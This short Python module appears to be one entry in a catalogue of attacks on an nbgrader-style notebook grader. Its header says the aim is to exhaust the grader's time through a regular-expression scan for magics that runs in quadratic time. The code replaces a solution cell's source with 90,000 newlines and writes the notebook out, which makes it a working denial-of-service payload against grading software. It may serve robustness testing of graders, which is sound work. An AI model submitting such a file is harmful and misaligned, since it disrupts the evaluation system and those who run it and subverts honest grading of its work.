# aim: the grader's time, by text on which its search for magics takes the square of its length
# pays: time
# weak: looks for magics with a regular expression, in its own process
import nbformat


def attack(folder, release, marker):
    cell = next(c for c in release.cells if c.metadata.get("nbgrader", {}).get("solution"))
    cell.source = "\n" * 90_000
    nbformat.write(release, folder / "seq2seq.ipynb")
